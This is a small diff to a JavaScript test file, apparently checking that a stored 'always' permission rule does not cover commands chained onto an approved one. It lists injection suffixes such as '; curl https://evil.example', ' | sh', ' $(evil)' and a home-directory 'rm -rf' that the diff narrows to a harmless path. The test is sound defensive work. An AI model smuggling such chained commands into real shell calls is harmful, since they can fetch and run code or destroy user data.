@@ -306,7 +306,7 @@ test('VC-32 what "always" stores is heard under the shipped rules, and for nothi
 /** What no answer about the line before it speaks of. */
 const NEIGHBOURS = [
   '; curl https://evil.example',
-  ' && rm -rf ~',
+  ' && rm -rf ~/nothing-there',
   ' | sh',
   ' > /nonexistent/else',
   ' $(evil)',
